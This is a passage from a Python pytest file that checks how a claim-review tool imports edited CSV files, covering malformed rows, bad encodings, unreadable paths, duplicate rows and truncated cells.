    "text after quote": (HEADER.encode() + b'ID0,disputed,"a"b\n', "is broken after row 1"),
    "too many cells": (HEADER.encode() + b"ID0,disputed,x,y,z\n", "row 2, has more cells"),
    "no verdict": (HEADER.encode() + b"ID0,disputed,x\nID1,maybe,y\n", "row 3: 'maybe' is no verdict"),
    "two rows": (HEADER.encode() + b"ID0,disputed,x\nID1,disputed,y\nID0,disputed,z\n", "rows 2 and 4 .* differ"),
    "another case": (HEADER.encode() + b"ID0,disputed,x\nabcdefabcdef,open,\n", "row 3 \\(abcdefabcdef\\)"),
    "no id": (HEADER.encode() + b"ID0,disputed,x\n,disputed,y\n", "row 3 \\(empty\\)"),
    "no UTF-16": (codecs.BOM_UTF16_LE + b"c\0l\0a", "can't be read as utf-16"),
    "no encoding": (HEADER.encode() + b"ID0,disputed,\x81\n", "can't be read as utf-8"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_no_table_is_told_in_one_line_and_nothing_is_recorded(tmp_path: Path, case: Case, name: str) -> None:
    content, message = BROKEN[name]
    for place, claim in enumerate(uids(case)):
        content = content.replace(f"ID{place}".encode(), claim.encode())
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    before = state(case)
    with pytest.raises(UnusableInput, match=message) as raised:
        bring(case, path)
    assert "\n" not in str(raised.value)
    assert state(case) == before


def test_places_where_nothing_can_be_read_are_told(tmp_path: Path, case: Case) -> None:
    for path in (tmp_path, tmp_path / "missing.csv"):
        with pytest.raises(UnusableInput, match="can't be read"):
            bring(case, path)
    save(tmp_path / "ok.csv", [{"claim": uids(case)[0], "verdict": ""}])
    for encoding in ("klingon", "hex", "\0"):
        with pytest.raises(UnusableInput, match="there is no encoding"):
            bring(case, tmp_path / "ok.csv", encoding=encoding)


def test_rows_that_say_the_same_twice_are_read_once(tmp_path: Path, case: Case) -> None:
    row = {"claim": uids(case)[0], "verdict": "disputed", "text": "one"}
    found = bring(case, save(tmp_path / "edited.csv", [row, {**row, "verdict": "Disputed ", "text": "other"}]))
    assert len(found.decisions) == 1


def test_cells_that_were_cut_off_at_the_end_of_a_row_are_no_change(tmp_path: Path, case: Case) -> None:
    first = uids(case)[0]
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record")
    path = tmp_path / "edited.csv"
    path.write_text(f"claim,decided_at,verdict,rationale\n{first},{next(casefile.claims(case)).decided_at}\n")
    found = bring(case, path)
    assert found.decisions == found.conflicts == []


def test_half_a_character_at_the_end_of_a_cut_cell_is_read(tmp_path: Path, case: Case) -> None:
    path = tmp_path / "edited.csv"
    path.write_bytes(f"claim,note\n{uids(case)[0]},cut ".encode() + b"\xed\xa0\xbd\n")
    bring(case, path)
    assert [event.values["text"] for event in decided(case)] == ["cut \ufffd"]
